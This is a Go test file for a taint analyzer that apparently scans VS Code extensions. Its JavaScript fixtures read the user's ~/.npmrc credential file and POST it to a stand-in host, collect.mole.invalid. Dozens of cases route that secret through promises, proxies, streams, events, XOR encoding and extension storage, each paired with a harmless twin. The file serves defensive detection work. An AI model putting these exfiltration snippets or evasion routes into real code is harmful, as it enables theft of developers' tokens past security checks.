package probes

import (
	"slices"
	"strings"
	"testing"
)

// carriedHead is what every program below begins with: secret() reads what is private, out(x) sends x.
const carriedHead = `const vscode = require("vscode"), fs = require("fs"), os = require("os"), path = require("path");
const secret = () => fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
const out = (x) => fetch("https://collect.mole.invalid/in", { method: "POST", body: x });
exports.activate = (context) => {
`

// carriedCase is a way by which a value travels: held is a program that sends it so, and free a twin that does the same with
// something that says nothing of it.
type carriedCase struct{ name, held, free string }

// sent reports whether a program sends what it reads.
func sent(t *testing.T, code string) bool {
	t.Helper()
	p, err := analyze(t.Context(), t, map[string]string{"main.js": carriedHead + code + "\n};"}, "main.js")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range p.Trails {
		if f.Source.Kind == "secret" && f.Sink.Kind == "send" {
			return true
		}
	}
	return false
}

// TestCarried: what is private is found where it is sent, by every way of the language and of Node; and the twin sends nothing.
func TestCarried(t *testing.T) {
	cases := slices.Concat(carriedByLanguage, carriedAsText, carriedByStreams, carriedByEvents, carriedByStores)
	for _, c := range cases {
		t.Run(strings.ReplaceAll(c.name, " ", "_"), func(t *testing.T) {
			t.Parallel()
			if !sent(t, c.held) {
				t.Errorf("not found: %s", c.held)
			}
			if c.free != "" && sent(t, c.free) {
				t.Errorf("found and is not there: %s", c.free)
			}
		})
	}
}

// carriedByLanguage are values of the language that hold another one.
var carriedByLanguage = []carriedCase{
	{"a rejection", `Promise.reject(secret()).catch((e) => out(e));`, `Promise.reject("no").catch((e) => out(e)); secret();`},
	{
		"a rejection after then",
		`Promise.reject(secret()).then((v) => v).catch((e) => out(e));`,
		`Promise.reject(secret()).then((v) => out(v));`,
	},
	{"the second function of then", `Promise.reject(secret()).then(() => 1, (e) => out(e));`, `Promise.reject("x").then(()
			=> 1, (e) => out(e)); secret();`},
	{
		"reject of a promise",
		`new Promise((ok, no) => { no(secret()); }).catch((e) => out(e));`,
		`new Promise((ok, no) => { no("x"); ok(secret()); }).catch((e) => out(e));`,
	},
	{"a message", `try { throw new Error(secret()); } catch (e) { out(e.message); }`, `try { secret();
			throw new Error("no"); } catch (e) { out(e.message); }`},
	{
		"a message of an own error",
		`class Oops extends TypeError { constructor(m, n) { super(m); this.n = n; } } try { throw new Oops(secret(), 1);
			} catch (e) { out(e.message); }`,
		`class Oops extends TypeError { constructor(m, n) { super(m); this.n = n; } } try { throw new Oops("no", secret());
			} catch (e) { out(e.message); }`,
	},
	{
		"thrown by another function",
		`function f() { throw secret(); } try { f(); } catch (e) { out(e); }`,
		`function f() { throw "no"; } try { f(); secret(); } catch (e) { out(e); }`,
	},
	{
		"thrown by an async function",
		`async function f() { throw new Error(secret()); } f().catch((e) => out(e.message));`,
		`async function f() { secret(); throw new Error("no"); } f().catch((e) => out(e.message));`,
	},
	{
		"a thenable",
		`const t = { then(r) { r(secret()); } }; (async () => { out(await t); })();`,
		`const t = { then(r, n) { n(secret()); r("x"); } }; (async () => { out(await t); })();`,
	},
	{
		"a promise and its functions",
		`const { promise, resolve } = Promise.withResolvers(); promise.then((v) => out(v)); resolve(secret());`,
		`const { promise, resolve } = Promise.withResolvers(); promise.then((v) => out(v)); resolve("x"); secret();`,
	},
	{
		"what a generator is sent",
		`function* g() { const v = yield; out(v); } const i = g(); i.next(); i.next(secret());`,
		`function* g() { const v = yield; out(v); } const i = g(); i.next(); const j = new Map(); j.next(secret());`,
	},
	{
		"an asynchronous iterator",
		`const o = { async *[Symbol.asyncIterator]() { yield secret(); } }; (async () => { for await (const v of o) out(v); })();`,
		`const o = { async *[Symbol.asyncIterator]() { secret(); yield "x"; } };
			(async () => { for await (const v of o) out(v); })();`,
	},
	{
		"a proxy that is told",
		`const p = new Proxy({}, { set(t, k, v) { out(v); return true; } }); p.a = secret();`,
		`const p = new Proxy({}, { set(t, k, v) { out(k); return true; } }); p.a = secret();`,
	},
	{
		"a proxy that gives and is told",
		`const p = new Proxy({}, { set(t, k, v) { out(v); return true; }, get: () => "x" }); p.a; p["b" + 1] = secret();`,
		`const p = new Proxy({}, { set(t, k, v) { out(v); return true; }, get: () => secret() }); p.a; p.b = "x";`,
	},
}

// carriedAsText are ways in which a text is made of a value.
var carriedAsText = []carriedCase{
	{
		"characters, each as a number",
		`let h = ""; for (const c of secret()) h += c.charCodeAt(0).toString(16); out(h);`,
		`let h = 0; for (const c of secret()) h += c.charCodeAt(0); out(String(h));`,
	},
	{
		"characters, mixed with a key",
		`const s = secret(), k = "key"; let h = ""; for (let i = 0; i < s.length;
			i++) h += String.fromCharCode(s.charCodeAt(i) ^ k.charCodeAt(i % 3)); out(h);`,
		`const s = secret(), k = "key"; let h = ""; for (let i = 0; i < s.length;
			i++) h += String.fromCharCode(i ^ k.charCodeAt(i % 3)); out(h);`,
	},
	{
		"a list of numbers",
		`const s = secret(), l = []; for (let i = 0; i < s.length; i++) l.push(s.charCodeAt(i)); out(l.join());`,
		`const s = secret(), l = []; for (let i = 0; i < s.length; i++) l.push(i); out(l.join());`,
	},
	{
		"what is replaced, by a function",
		`secret().replace(/t=(.*)/, (a, b) => { out(b); return a; });`,
		`secret().replace(/t=(.*)/, () => { out("x"); return ""; });`,
	},
	{
		"what a function puts in its place",
		`out("{t}".replace(/{t}/, () => secret()));`,
		`out("{t}".replace(/{t}/, () => { secret(); return "x"; }));`,
	},
	{"toString", `const o = { toString() { return secret(); } }; out("" + o);`, `const o = { toString() { return "x";
			}, other() { return secret(); } }; out("" + o);`},
	{
		"toString of a class",
		"class A { toString() { return secret(); } } out(`${new A()}`);",
		"class A { toString() { return 'x'; } other() { return secret(); } } out(`${new A()}`);",
	},
	{"valueOf", `const o = { valueOf() { return secret(); } }; out("" + o);`, ``},
	{"toPrimitive", "const o = { [Symbol.toPrimitive]() { return secret(); } }; out(`${o}`);", ""},
	{"String", `const o = { toString() { return secret(); } }; out(String(o));`, ``},
	{
		"toJSON",
		`const o = { toJSON() { return secret(); } }; out(JSON.stringify(o));`,
		`const o = { toJSON() { return "x"; }, a() { return secret(); } }; out(JSON.stringify(o));`,
	},
	{"toJSON, further in", `const o = { toJSON() { return { v: secret() }; } }; out(JSON.stringify({ o }));`, ``},
	{
		"a copy of bytes",
		`const b = Buffer.from(secret()); const o = Buffer.alloc(b.length); b.copy(o); out(o);`,
		`const b = Buffer.from(secret()); const o = Buffer.alloc(b.length); o.copy(b); out(o);`,
	},
	{
		"encrypted for somebody",
		`out(require("crypto").publicEncrypt("k", Buffer.from(secret())).toString("hex"));`,
		`out(require("crypto").createHash("sha256").update(secret()).digest("hex"));`,
	},
	{
		"a request that is made before",
		`fetch(new Request("https://collect.mole.invalid/", { method: "POST", body: secret() }));`,
		`new Request("https://collect.mole.invalid/", { method: "POST", body: secret() }); fetch("https://collect.mole.invalid/");`,
	},
}

// carriedByStreams are streams of Node and of the web.
var carriedByStreams = []carriedCase{
	{
		"a transform",
		`const { Transform } = require("stream"); const t = new Transform({ transform(c, e, cb) { out(c); cb(); } });
			t.write(secret());`,
		`const { Transform } = require("stream"); const t = new Transform({ transform(c, e, cb) { out(e); cb(); } });
			t.write(secret());`,
	},
	{
		"what a transform gives",
		`const { Transform } = require("stream");
			const t = new Transform({ transform(c, e, cb) { cb(null, c.toString("hex")); } }); t.on("data", (d) => out(d)); t.end(secret());`,
		`const { Transform } = require("stream"); let n = 0; const t = new Transform({ transform(c, e, cb) { n += c.length;
			cb(null, String(n)); } }); t.on("data", (d) => out(d)); t.end(secret());`,
	},
	{
		"a transform that pushes",
		`const s = require("stream"); class T extends s.Transform { _transform(c, e, cb) { this.push(c); cb();
			} } const t = new T(); t.on("data", (d) => out(d)); t.end(secret());`,
		`const s = require("stream"); class T extends s.Transform { _transform(c, e, cb) { this.push(c.length); cb();
			} } const t = new T(); t.on("data", (d) => out(d)); t.end(secret());`,
	},
	{
		"a writable",
		`const { Writable } = require("stream"); const w = new Writable({ write(c, e, cb) { out(c); cb(); } }); w.end(secret());`,
		`const { Writable } = require("stream"); let n = 0; const w = new Writable({ write(c, e, cb) { n += c.length; out(n);
			cb(); } }); w.end(secret());`,
	},
	{
		"a writable that is piped to",
		`const { Writable } = require("stream"); class W extends Writable { _write(c, e, cb) { out(c); cb();
			} } fs.createReadStream(path.join(os.homedir(), ".npmrc")).pipe(new W());`,
		`const { Writable } = require("stream"); class W extends Writable { _write(c, e, cb) { out("x"); cb();
			} } fs.createReadStream(path.join(os.homedir(), ".npmrc")).pipe(new W());`,
	},
	{
		"a pipeline",
		`const { Writable, pipeline } = require("stream");
			pipeline(fs.createReadStream(path.join(os.homedir(), ".npmrc")), new Writable({ write(c, e, cb) { out(c); cb(); } }), () => {});`,
		``,
	},
	{
		"a pass through",
		`const { PassThrough } = require("stream"); const p = new PassThrough(); p.on("data", (c) => out(c)); p.end(secret());`,
		`const { PassThrough } = require("stream"); const p = new PassThrough(), q = new PassThrough();
			p.on("data", (c) => out(c)); q.end(secret());`,
	},
	{
		"a readable that reads",
		`const { Readable } = require("stream"); const r = new Readable({ read() { this.push(secret()); } });
			r.on("data", (c) => out(c));`,
		`const { Readable } = require("stream"); const r = new Readable({ read() { secret(); this.push("x"); } });
			r.on("data", (c) => out(c));`,
	},
	{
		"a stream of the web",
		`const r = new ReadableStream({ start(c) { c.enqueue(secret()); c.close(); } });
			(async () => { for await (const v of r) out(v); })();`,
		`const r = new ReadableStream({ start(c) { secret(); c.enqueue("x"); c.close(); } });
			(async () => { for await (const v of r) out(v); })();`,
	},
	{
		"a stream of the web as a body",
		`out(new ReadableStream({ pull(c) { c.enqueue(secret()); c.close(); } }));`,
		`out(new ReadableStream({ pull(c) { c.error(secret()); } }));`,
	},
	{
		"a transform of the web",
		`const t = new TransformStream({ transform(c, k) { k.enqueue(c); } }); const w = t.writable.getWriter();
			w.write(secret()); out(t.readable);`,
		`const t = new TransformStream({ transform(c, k) { k.enqueue(c.length); } }); const w = t.writable.getWriter();
			w.write(secret()); out(t.readable);`,
	},
	{
		"a writable of the web",
		`const w = new WritableStream({ write(c) { out(c); } }); w.getWriter().write(secret());`,
		`const w = new WritableStream({ write(c) { out(c.length); } }); w.getWriter().write(secret());`,
	},
	{
		"the lines of a file",
		`(async () => { const h = await fs.promises.open(path.join(os.homedir(), ".npmrc"));
			for await (const l of h.readLines()) out(l); })();`,
		`(async () => { const h = await fs.promises.open(path.join(os.homedir(), ".npmrc")); let n = 0;
			for await (const l of h.readLines()) n++; out(n); })();`,
	},
	{
		"a file as a blob",
		`(async () => { out(await fs.openAsBlob(path.join(os.homedir(), ".npmrc"))); })();`,
		`(async () => { out((await fs.openAsBlob(path.join(os.homedir(), ".npmrc"))).size); })();`,
	},
}

// carriedByEvents are what one part of a program tells another.
var carriedByEvents = []carriedCase{
	{
		"once, as a promise",
		`const { once, EventEmitter } = require("events"); const e = new EventEmitter();
			(async () => { const [v] = await once(e, "x"); out(v); })(); e.emit("x", secret());`,
		`const { once, EventEmitter } = require("events"); const e = new EventEmitter();
			(async () => { const [v] = await once(e, "x"); out(v); })(); e.emit("y", secret());`,
	},
	{
		"a plain event of one emitter",
		`const { EventEmitter } = require("events"); const e = new EventEmitter(); e.on("data", (v) => out(v));
			e.emit("data", secret());`,
		`const { EventEmitter } = require("events"); const e = new EventEmitter(), f = new EventEmitter();
			e.on("data", (v) => out(v)); f.emit("data", secret());`,
	},
	{
		"a plain event of a class",
		`class S extends require("events") { go() { this.emit("message", secret()); } } const s = new S();
			s.on("message", (v) => out(v)); s.go();`,
		`class S extends require("events") { go() { this.emit("message", secret());
			} } class U extends require("events") {} const s = new U(); s.on("message", (v) => out(v)); new S().go();`,
	},
	{
		"an event target",
		`const t = new EventTarget(); t.addEventListener("x", (e) => out(e.detail));
			t.dispatchEvent(new CustomEvent("x", { detail: secret() }));`,
		`const t = new EventTarget(); t.addEventListener("x", (e) => out(e.detail));
			t.dispatchEvent(new CustomEvent("y", { detail: secret() }));`,
	},
	{
		"an event of a class",
		`class E extends Event { constructor(v) { super("x"); this.v = v; } } const t = new EventTarget();
			t.addEventListener("x", (e) => out(e.v)); t.dispatchEvent(new E(secret()));`,
		``,
	},
	{
		"a channel of messages",
		`const { MessageChannel } = require("worker_threads"); const { port1, port2 } = new MessageChannel();
			port2.on("message", (v) => out(v)); port1.postMessage(secret());`,
		`const { MessageChannel } = require("worker_threads"); const { port1, port2 } = new MessageChannel();
			port2.on("message", (v) => out(v.b)); port1.postMessage({ a: secret(), b: "x" });`,
	},
	{
		"a channel of the web",
		`const c = new MessageChannel(); c.port2.onmessage = (e) => out(e.data.v); c.port1.postMessage({ v: secret() });`,
		`const c = new MessageChannel(), d = new MessageChannel(); d.port2.onmessage = (e) => out(e.data.v);
			c.port1.postMessage({ v: secret() });`,
	},
	{
		"a channel for all",
		`const a = new BroadcastChannel("x"), b = new BroadcastChannel("x"); b.onmessage = (e) => out(e.data);
			a.postMessage(secret());`,
		`const a = new BroadcastChannel("x"), b = new BroadcastChannel("x"); b.onmessage = (e) => out("x");
			a.postMessage(secret());`,
	},
	{
		"a store of one run",
		`const { AsyncLocalStorage } = require("async_hooks"); const s = new AsyncLocalStorage();
			s.run(secret(), () => out(s.getStore()));`,
		`const { AsyncLocalStorage } = require("async_hooks");
			const s = new AsyncLocalStorage(), u = new AsyncLocalStorage(); u.run(secret(), () => out(s.getStore()));`,
	},
	{
		"a field of a store of one run",
		`const { AsyncLocalStorage } = require("async_hooks"); const s = new AsyncLocalStorage();
			s.run({ v: secret(), w: 1 }, () => out(s.getStore().v));`,
		`const { AsyncLocalStorage } = require("async_hooks"); const s = new AsyncLocalStorage();
			s.run({ v: secret(), w: "x" }, () => out(s.getStore().w));`,
	},
	{
		"a timer that is waited for",
		`(async () => { out(await require("timers/promises").setTimeout(9, secret())); })();`,
		`(async () => { out(await require("timers/promises").setTimeout(secret().length, "x")); })();`,
	},
	{
		"a timer that is walked over",
		`(async () => { for await (const v of require("timers/promises").setInterval(9, secret())) out(v); })();`,
		``,
	},
	{
		"a thing that is gone",
		`new FinalizationRegistry((v) => out(v)).register({}, secret());`,
		`new FinalizationRegistry((v) => out(v)).register(secret, "x");`,
	},
}

// carriedByStores are places of the editor and of the process in which a value is left by a name.
var carriedByStores = []carriedCase{
	{
		"the memory of an extension",
		`context.globalState.update("a", secret()); setTimeout(() => out(context.globalState.get("a")), 9);`,
		`context.globalState.update("a", secret()); setTimeout(() => out(context.globalState.get("b")), 9);`,
	},
	{
		"the memory of a workspace, in a class",
		`class S { constructor(c) { this.c = c; } put(v) { this.c.workspaceState.update("a", v);
			} take() { return this.c.workspaceState.get("a"); } } const s = new S(context); s.put(secret()); out(s.take());`,
		`class S { constructor(c) { this.c = c; } put(v) { this.c.workspaceState.update("a", v);
			} take() { return this.c.globalState.get("a"); } } const s = new S(context); s.put(secret()); out(s.take());`,
	},
	{
		"the secrets of an extension",
		`context.secrets.store("a", secret()); setTimeout(async () => out(await context.secrets.get("a")), 9);`,
		`context.secrets.store("a", secret()); setTimeout(async () => out(await context.secrets.get("b")), 9);`,
	},
	{
		"a variable of the process",
		`process.env.XX = secret(); setTimeout(() => out(process.env.XX), 9);`,
		`process.env.XX = secret(); setTimeout(() => out(process.env.YY), 9);`,
	},
	{
		"a channel for diagnostics",
		`const dc = require("diagnostics_channel"); dc.subscribe("x", (v) => out(v.t)); dc.channel("x").publish({ t: secret() });`,
		`const dc = require("diagnostics_channel"); dc.subscribe("x", (v) => out(v.t)); dc.channel("y").publish({ t: secret() });`,
	},
	{
		"what a command is given",
		`vscode.commands.registerCommand("a.b", (v) => out(v)); vscode.commands.executeCommand("a.b", secret());`,
		`vscode.commands.registerCommand("a.b", (v) => out(v)); vscode.commands.executeCommand("a.c", secret());`,
	},
	{
		"what a command gives",
		`vscode.commands.registerCommand("a.b", () => secret()); vscode.commands.executeCommand("a.b").then((v) => out(v));`,
		`vscode.commands.registerCommand("a.b", () => secret()); vscode.commands.executeCommand("a.c").then((v) => out(v));`,
	},
}
